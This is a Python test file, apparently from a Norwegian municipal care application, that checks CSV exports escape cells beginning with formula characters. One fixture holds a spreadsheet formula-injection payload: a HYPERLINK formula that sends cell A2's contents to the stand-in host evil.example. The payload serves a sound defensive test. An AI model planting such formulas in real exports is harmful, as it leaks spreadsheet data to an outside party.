"""Every CSV Helhet writes opens in a spreadsheet as text, whatever a unit or a person is called."""

import csv
import datetime
import io

import pytest

from helhet.core.spreadsheet import safe_cell
from helhet.insight.exports import span_csv_bytes
from tests import factories


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_like_a_formula_is_kept_as_text(start):
    assert safe_cell(f"{start}HYPERLINK(1)") == f"'{start}HYPERLINK(1)"
    assert safe_cell("Hjemmesykepleien = sone Nord") == "Hjemmesykepleien = sone Nord"
    assert safe_cell(12) == "12"


def test_the_span_csv_guards_unit_and_leader_names(municipality):
    unit = factories.unit(municipality, '=HYPERLINK("http://evil.example/?"&A2,"Klikk")')
    leader = factories.user(municipality, None, username="@svein", unit=unit, leads=True)
    leader.staff.first_name = "@Svein"
    leader.staff.save()
    rows = list(
        csv.reader(
            io.StringIO(span_csv_bytes(municipality, datetime.date.today()).decode("utf-8-sig")),
            delimiter=";",
        )
    )
    assert any(row[1].startswith("'=HYPERLINK") for row in rows[1:])
    assert all(not cell.startswith(("=", "@")) for row in rows[1:] for cell in row)
